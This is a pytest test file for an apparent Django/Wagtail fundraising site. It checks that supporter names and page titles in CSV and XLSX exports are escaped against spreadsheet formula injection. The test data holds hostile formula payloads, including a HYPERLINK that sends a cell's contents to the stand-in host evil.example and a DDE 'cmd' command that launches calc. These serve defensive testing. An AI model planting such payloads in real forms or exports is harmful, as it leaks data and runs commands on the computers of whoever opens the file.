"""The supporter list and mailing-list downloads: names that come from public
forms are written so that a spreadsheet shows them and never runs them."""

import csv
import io

import openpyxl
import pytest

from supporters import services
from tests.helpers import log_in_verified

pytestmark = pytest.mark.django_db

HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?"&B2,"Open")',
    "last_name": "+SUM(1+1)",
    "preferred_name": "-2+3",
    "address_street": "@SUM(1)",
    "address_town": "\t=cmd|' /C calc'!A0",
    "address_county": "\r=1+1",
}
ESCAPED = {field: "'" + value for field, value in HOSTILE.items()}
PLAIN = {"first_name": "Siân", "last_name": "O'Brien", "address_street": "12-14 Mill Lane"}


@pytest.fixture
def people(supporter_factory):
    hostile = supporter_factory(email="hostile@example.org", **HOSTILE)
    plain = supporter_factory(email="plain@example.org", **PLAIN)
    for person in (hostile, plain):
        services.consent_record(supporter=person, channel="email", granted=True, method="web_form", wording="Email me")
    return hostile, plain


def _csv(response):
    assert response.status_code == 200, response
    return list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8-sig"), newline="")))


def _xlsx(response):
    assert response.status_code == 200, response
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    header, *rows = list(sheet.iter_rows())
    return [dict(zip([cell.value for cell in header], row)) for row in rows]


LIST_COLUMNS = {"first_name": "First name", "last_name": "Last name", "preferred_name": "Preferred name",
                "address_street": "Street", "address_town": "Town or city", "address_county": "County, state or region"}
MAILING_COLUMNS = {"first_name": "First name", "last_name": "Last name", "preferred_name": "Preferred name",
                   "address_street": "Street", "address_town": "Town", "address_county": "County"}


@pytest.mark.parametrize("url, columns", [
    ("/admin/supporter/?export={fmt}", LIST_COLUMNS),
    ("/admin/supporter/mailing-list/email/?format={fmt}", MAILING_COLUMNS),
])
def test_names_from_public_forms_are_escaped_in_csv_and_xlsx(fundraiser_client, people, url, columns):
    hostile, plain = people
    rows = _csv(fundraiser_client.get(url.format(fmt="csv")))
    row = next(r for r in rows if r["Email"] == hostile.email)
    for field, heading in columns.items():
        assert row[heading] == ESCAPED[field], heading
    untouched = next(r for r in rows if r["Email"] == plain.email)
    assert (untouched["First name"], untouched["Last name"]) == ("Siân", "O'Brien")

    cells = next(r for r in _xlsx(fundraiser_client.get(url.format(fmt="xlsx"))) if r["Email"].value == hostile.email)
    for field, heading in columns.items():
        assert (cells[heading].value, cells[heading].data_type) == (ESCAPED[field], "s"), heading


def test_the_supporter_list_has_every_supporter(fundraiser_client, supporter_factory):
    everyone = [supporter_factory() for _ in range(7)]
    rows = _csv(fundraiser_client.get("/admin/supporter/", {"export": "csv"}))
    assert sorted(r["Reference"] for r in rows) == sorted(s.reference for s in everyone)


def test_a_site_history_download_escapes_titles_from_the_public(client, admin_user):
    """Wagtail's own reports are made by the same code: a label typed by the
    public (a fundraising page's title, say) is escaped there too."""
    from wagtail.log_actions import log

    from campaigns.models import Campaign, FundraiserPage
    from tests.supporters.factories import SupporterFactory

    campaign = Campaign.objects.create(name="Marathon", code="run", kind=Campaign.Kind.PEER_TO_PEER)
    page = FundraiserPage.objects.create(campaign=campaign, supporter=SupporterFactory(), slug="run-1",
                                         title="=HYPERLINK(\"http://evil.example\")", story="Go")
    log(instance=page, action="wagtail.edit", user=admin_user)
    log_in_verified(client, admin_user)
    rows = _csv(client.get("/admin/reports/site-history/", {"export": "csv"}))
    assert any(value == "'=HYPERLINK(\"http://evil.example\")" for row in rows for value in row.values())
    assert not any(value.startswith("=") for row in rows for value in row.values())
